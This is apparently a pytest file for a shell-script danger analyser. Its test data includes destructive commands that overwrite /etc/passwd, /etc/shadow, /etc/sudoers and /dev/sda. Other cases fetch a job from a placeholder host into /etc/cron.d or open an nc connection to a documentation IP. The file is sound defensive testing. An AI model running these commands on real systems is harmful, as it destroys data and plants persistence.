"""Files that ordinary programs write because an option or an operand names them."""

from __future__ import annotations

import pytest

from scriptsmith.danger.analyse import analyse


@pytest.mark.parametrize(
    ("script", "path"),
    [
        ("uniq x /etc/hosts", "/etc/hosts"),
        ("uniq -c -f 2 x /etc/hosts", "/etc/hosts"),
        ("shuf -o /etc/hosts names", "/etc/hosts"),
        ("shuf --output=/etc/passwd names", "/etc/passwd"),
        ("iconv -f latin1 -o /etc/passwd x", "/etc/passwd"),
        ("xxd -r x.hex /etc/shadow", "/etc/shadow"),
        ("strace -o /etc/passwd ls", "/etc/passwd"),
        ("strace -fo /etc/passwd ls", "/etc/passwd"),
        ("ltrace -o /etc/passwd ls", "/etc/passwd"),
        ("/usr/bin/time -o /etc/passwd ls", "/etc/passwd"),
        ("command time --output=/etc/fstab ls", "/etc/fstab"),
        ("sudo valgrind --log-file=/etc/fstab ls", "/etc/fstab"),
        ("split -b 1M big /dev/sda", "/dev/sda…"),
        ("csplit --prefix=/etc/sudoers.d/x file 10", "/etc/sudoers.d/x…"),
        ("csplit -f /etc/pam.d/x file 10", "/etc/pam.d/x…"),
        ("find / -name x -fprint /etc/passwd", "/etc/passwd"),
        ("find . -fls /etc/hosts", "/etc/hosts"),
        ("find . -fprintf /etc/sudoers '%p'", "/etc/sudoers"),
        ("wget -P /etc/cron.d http://x.example/job", "/etc/cron.d/job"),
        ("cd /etc/cron.d && wget http://x.example/job", "/etc/cron.d/job"),
        ("wget -o /etc/passwd http://x.example/job", "/etc/passwd"),
        ("curl -O --output-dir /etc/cron.d http://x.example/job", "/etc/cron.d/job"),
        ("curl -D /etc/passwd http://x.example/", "/etc/passwd"),
        ("tcpdump -i eth0 -w /etc/passwd", "/etc/passwd"),
        ("pg_dump -f /etc/passwd shop", "/etc/passwd"),
        ("git archive -o /etc/passwd HEAD", "/etc/passwd"),
        ("docker save -o /etc/passwd app", "/etc/passwd"),
        ("zip -r /etc/passwd folder", "/etc/passwd"),
        ("gcc -O2 x.c -o /usr/bin/sudo", "/usr/bin/sudo"),
        ("ffmpeg -i a.mp4 -c copy /etc/passwd", "/etc/passwd"),
    ],
)
def test_a_file_of_the_machine_as_output_is_dangerous_and_told(script: str, path: str) -> None:
    """The finding and the effects name the file, whichever option or operand brought it."""
    danger = analyse(script)
    assert danger.risk == "dangerous"
    assert path in danger.effects.writes
    assert path not in danger.effects.reads


@pytest.mark.parametrize(
    ("script", "written"),
    [
        ("uniq /etc/hosts", ()),
        ("uniq -f 2 /etc/hosts", ()),
        ("split -b 1M /var/log/big", ("x…",)),
        ("split -b 1M /var/log/big part-", ("part-…",)),
        ("strace ls -o /etc/passwd", ()),
        ("strace -p 12 -e trace=open", ()),
        ("time sort /etc/passwd", ()),
        ("wget -O - http://x.example/job", ()),
        ("wget --spider http://x.example/job", ()),
        ("curl http://x.example/job", ()),
        ("xxd /etc/passwd", ()),
        ("tcpdump -r /etc/passwd", ()),
        ("git log --oneline", ()),
        ("docker run -e x app", ()),
        ("find / -name passwd -print", ()),
    ],
)
def test_what_is_only_read_is_not_told_as_written(script: str, written: tuple[str, ...]) -> None:
    """The same programs without an output, or with the option after the program that they start."""
    danger = analyse(script)
    assert danger.effects.writes == written
    assert danger.risk in ("safe", "notable")


@pytest.mark.parametrize(
    ("script", "reads", "deletes", "network"),
    [
        ("tar -tzf backup.tar.gz", ("backup.tar.gz",), (), ()),
        ("tar czf a.tgz dir", ("dir",), (), ()),
        ("tar -xOf bundle.tar etc/app.conf", ("bundle.tar",), (), ()),
        ("jq -r .state x.json", ("x.json",), (), ()),
        ("grep -e root /etc/passwd", ("/etc/passwd",), (), ()),
        ("grep root /etc/passwd", ("/etc/passwd",), (), ()),
        ("bash -c 'true' _ /etc/passwd", (), (), ()),
        ("mv a b", (), ("a",), ()),
        ("cp -t /tmp/x a b", ("a", "b"), (), ()),
        ("git rm --cached secrets", (), (), ()),
        ("git rm secrets", (), ("secrets",), ()),
        ("find . -name -delete", (".",), (), ()),
        ("find . -newer a -delete", (".",), ("./… (what find yields)",), ()),
        ("nc -w 3 203.0.113.9 9001", (), (), ("203.0.113.9",)),
        ("nc -l 8080", (), (), ()),
        ("dig @9.9.9.9 mx example.org", (), (), ("9.9.9.9", "example.org")),
        ("openssl s_client -connect example.com:443", (), (), ("example.com:443",)),
        ("psql -h localhost -f a.sql", ("a.sql",), (), ()),
    ],
)
def test_effects_follow_the_roles_of_the_words(
    script: str, reads: tuple[str, ...], deletes: tuple[str, ...], network: tuple[str, ...]
) -> None:
    """A filter, a port or a member of an archive is no file; what an option changes is told as it is then."""
    found = analyse(script).effects
    assert (found.reads, found.deletes, found.network) == (reads, deletes, network)
